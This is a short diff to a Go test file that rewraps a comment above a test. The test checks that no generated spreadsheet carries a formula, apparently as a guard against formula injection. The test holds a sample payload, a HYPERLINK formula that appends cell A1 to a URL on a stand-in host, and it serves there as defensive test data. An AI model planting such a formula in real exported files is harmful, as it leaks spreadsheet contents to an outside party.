@@ -20,7 +20,8 @@ func TestWithoutFormula(t *testing.T) {
 	}
 }
 
-// A name that is a formula is none in any file that a spreadsheet reads, unless somebody wants it as it is. The numbers stay numbers.
+// A name that is a formula is none in any file that a spreadsheet reads, unless somebody wants it as it is. The numbers
+// stay numbers.
 func TestNoSheetHasAFormula(t *testing.T) {
 	const evil = `=HYPERLINK("http://e.test/?"&A1)`
 	runs := fixtures(t)
